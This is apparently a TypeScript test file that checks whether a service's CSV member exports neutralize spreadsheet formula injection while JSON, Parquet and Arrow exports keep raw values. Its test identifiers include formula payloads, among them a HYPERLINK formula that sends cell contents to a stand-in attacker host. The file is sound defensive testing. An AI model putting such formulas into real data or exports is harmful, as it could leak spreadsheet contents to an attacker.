// CSV injection (OWASP "CSV Injection"): identifiers anyone can type into a signup form that start
// with =, +, -, @, a tab or a carriage return are formulas once a CSV is opened in a spreadsheet.
// Every CSV written (the members export, the CLI's --out file.csv: both through the engine's CSV
// writer) prefixes such a cell with a single quote; Parquet, Arrow and JSON keep the raw values.

import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { tableFromIPC } from 'apache-arrow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralized } from '../src/store/csv-cells.js';
import { startTestApp, type TestApp } from './support/app.js';
import { ENGINES } from './support/engines.js';
import { importRows } from './support/stored.js';

const AT = new Date('2026-06-01T00:00:00Z');
/** As the issue saw it exported, and one per character OWASP names; the last ones are no formulas. */
const IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\tx', '\rx', 'a=b', 'plain'];

describe('neutralized', () => {
  it('prefixes a cell starting with =, +, -, @, a tab or a carriage return with a quote, and no other', () => {
    expect(IDS.map(neutralized)).toEqual([`'${IDS[0]}`, "'+1+1", "'-2+3", "'@SUM(1+1)", "'\tx", "'\rx", 'a=b', 'plain']);
  });
});

describe.each(ENGINES)('%s: CSV exports neutralize formulas, other formats keep raw values', (engine) => {
  let t: TestApp;
  let audience: string;
  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${t.ws.secret_key}` } });

  beforeAll(async () => {
    t = await startTestApp({ engine, at: AT });
    const persons = IDS.map((id, i) => ({ person_id: `p${i}`, external_id: id, email: `${id}${i}@example.com`, name: null, traits: null, created_at: AT }));
    await importRows(t, {
      persons, visitors: [],
      events: persons.map((p, i) => ({ event_id: `e${i}`, event_name: 'signup', ts: AT, properties: '{}', person_id: p.person_id, visitor_id: null })),
    });
    audience = (await t.post('/v1/audiences', {
      name: 'signed up', refresh_every: '1d',
      criteria_json: { version: 1, root: { source: 'product_event', name: 'signup', occurrence: { op: 'did', count: null, window: { kind: 'ever' } } } },
    })).json().id;
    expect((await t.post(`/v1/audiences/${audience}/refresh`, {})).json()).toMatchObject({ status: 'ready', member_count: IDS.length });
  }, 60_000);
  afterAll(() => t?.close());

  it('writes each cell of a member CSV neutralized, and the same members raw in JSON, Parquet and Arrow', async () => {
    // The raw values as stored (emails normalized as each engine keeps them) are JSON's.
    const json = await get(`/v1/audiences/${audience}/members?limit=100`);
    const raw = json.json().data as { person_id: string; visitor_id: null; external_id: string; email: string }[];
    expect(raw.map((r) => r.external_id)).toEqual(IDS);
    expect(raw.filter((r) => neutralized(r.email) !== r.email)).not.toEqual([]);

    const dir = await mkdtemp(join(tmpdir(), 'csv-injection-'));
    const db = await DuckDBInstance.create(':memory:');
    const conn = await db.connect();
    try {
      const csv = await get(`/v1/audiences/${audience}/members?format=csv`);
      expect(csv.statusCode).toBe(200);
      await writeFile(join(dir, 'm.csv'), csv.rawPayload);
      const read = `read_csv('${join(dir, 'm.csv')}', all_varchar = true, header = true, quote = '"', escape = '"', delim = ',')`;
      const rows = (await conn.runAndReadAll(`SELECT person_id, visitor_id, external_id, email FROM ${read}`)).getRowObjectsJS();
      expect(rows).toEqual(raw.map((r) => ({ ...r, external_id: neutralized(r.external_id), email: neutralized(r.email) })));
      expect(csv.body).toContain(`'=HYPERLINK(`);

      const parquet = await get(`/v1/audiences/${audience}/members?format=parquet`);
      await writeFile(join(dir, 'm.parquet'), parquet.rawPayload);
      expect((await conn.runAndReadAll(`SELECT person_id, visitor_id, external_id, email FROM read_parquet('${join(dir, 'm.parquet')}')`)).getRowObjectsJS()).toEqual(raw);

      const arrow = await get(`/v1/audiences/${audience}/members?format=arrow`);
      expect(tableFromIPC(arrow.rawPayload).toArray().map((r) => ({ ...r.toJSON() }))).toEqual(raw);
    } finally {
      conn.closeSync();
      db.closeSync();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
